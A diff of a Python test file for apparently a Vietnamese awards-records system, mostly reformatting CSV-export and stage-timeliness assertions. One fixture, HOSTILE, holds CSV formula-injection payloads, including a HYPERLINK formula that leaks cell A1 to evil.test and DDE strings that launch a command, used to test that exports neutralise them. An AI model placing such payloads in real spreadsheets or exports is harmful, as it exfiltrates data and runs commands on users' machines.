@@ -41,22 +41,9 @@ def test_csv_has_a_bom_vietnamese_headers_and_vietnamese_dates():
     data = CsvFormat().render(ROWS, COLS)
     assert data.startswith(b"\xef\xbb\xbf")
     rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
-    assert rows[0] == [
-        "Ngày quyết định",
-        "Số quyết định",
-        "Danh hiệu / hình thức khen thưởng",
-        "Họ và tên",
-        "Đơn vị",
-        "Năm",
-    ]
-    assert rows[1] == [
-        "05/12/2018",
-        "2457/QĐ-UBND",
-        "Bằng khen của Chủ tịch UBND tỉnh",
-        "Nguyễn Thị Hồng Nhung",
-        "Sở Nội vụ, tỉnh Đắk Nông",
-        "2018",
-    ]  # the comma inside a name is quoted, not split
+    assert rows[0] == ["Ngày quyết định", "Số quyết định", "Danh hiệu / hình thức khen thưởng", "Họ và tên", "Đơn vị", "Năm"]
+    assert rows[1] == ["05/12/2018", "2457/QĐ-UBND", "Bằng khen của Chủ tịch UBND tỉnh", "Nguyễn Thị Hồng Nhung",
+                       "Sở Nội vụ, tỉnh Đắk Nông", "2018"]  # the comma inside a name is quoted, not split
 
 
 def test_csv_in_english_has_english_headers_and_iso_dates():
@@ -93,31 +80,19 @@ def test_timeliness_per_stage():
         return {"stage": name, "entered_at": entered, "left_at": left, "due_on": due, "working_days": days}
 
     nominations = [
-        {
-            "nomination_id": "n1",
-            "stages": [
-                stage("tham-dinh", "2026-03-02T01:00:00+00:00", "2026-03-12T01:00:00+00:00", "2026-03-13", 8),
-                stage("hoi-dong", "2026-03-12T01:00:00+00:00", None, "2026-03-20", None),
-            ],
-        },
-        {
-            "nomination_id": "n2",
-            "stages": [
-                stage("tham-dinh", "2026-03-02T01:00:00+00:00", "2026-03-20T01:00:00+00:00", "2026-03-13", 14),
-            ],
-        },
+        {"nomination_id": "n1", "stages": [
+            stage("tham-dinh", "2026-03-02T01:00:00+00:00", "2026-03-12T01:00:00+00:00", "2026-03-13", 8),
+            stage("hoi-dong", "2026-03-12T01:00:00+00:00", None, "2026-03-20", None),
+        ]},
+        {"nomination_id": "n2", "stages": [
+            stage("tham-dinh", "2026-03-02T01:00:00+00:00", "2026-03-20T01:00:00+00:00", "2026-03-13", 14),
+        ]},
         {"nomination_id": "n3", "stages": [stage("tham-dinh", "2026-03-25T01:00:00+00:00", None, "2026-04-07")]},
     ]
     alerts = [{"nomination_id": "n3", "stage": "tham-dinh"}]
     out = {s["stage"]: s for s in timeliness_of(nominations, alerts, date(2026, 3, 30))}
-    assert out["tham-dinh"] == {
-        "stage": "tham-dinh",
-        "count": 3,
-        "in_stage_now": 1,
-        "average_working_days": 11.0,
-        "max_working_days": 14.0,
-        "overdue": 2,
-    }  # n2 left late; n3 alerted
+    assert out["tham-dinh"] == {"stage": "tham-dinh", "count": 3, "in_stage_now": 1, "average_working_days": 11.0,
+                                "max_working_days": 14.0, "overdue": 2}  # n2 left late; n3 alerted
     assert out["hoi-dong"]["overdue"] == 1  # still in it past its due date
     assert out["hoi-dong"]["average_working_days"] is None
 
@@ -126,7 +101,7 @@ def test_timeliness_per_stage():
 
 HOSTILE = {
     "decision_date": date(2019, 12, 5),
-    "decision_number": '=HYPERLINK("http://evil.test/?"&A1,"2457")',
+    "decision_number": "=HYPERLINK(\"http://evil.test/?\"&A1,\"2457\")",
     "signer": "+cmd|' /C calc'!A0",
     "person_name": "-2+3+cmd|' /C calc'!A0",
     "position": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -148,16 +123,8 @@ def _cells(data: bytes) -> dict[str, str]:
 
 def test_csv_cells_that_could_start_a_formula_get_a_single_quote():
     cells = _cells(CsvFormat().render([HOSTILE], HOSTILE_COLS))
-    for key in (
-        "decision_number",
-        "signer",
-        "person_name",
-        "position",
-        "unit_name",
-        "award_name",
-        "basis",
-        "campaign_id",
-    ):
+    for key in ("decision_number", "signer", "person_name", "position", "unit_name", "award_name", "basis",
+                "campaign_id"):
         assert cells[key] == "'" + HOSTILE[key], key  # the text is kept whole, behind one quote
     assert cells["nomination_id"] == "a;=1+1"  # not at the start: no formula
     assert cells["decision_date"] == "05/12/2019"
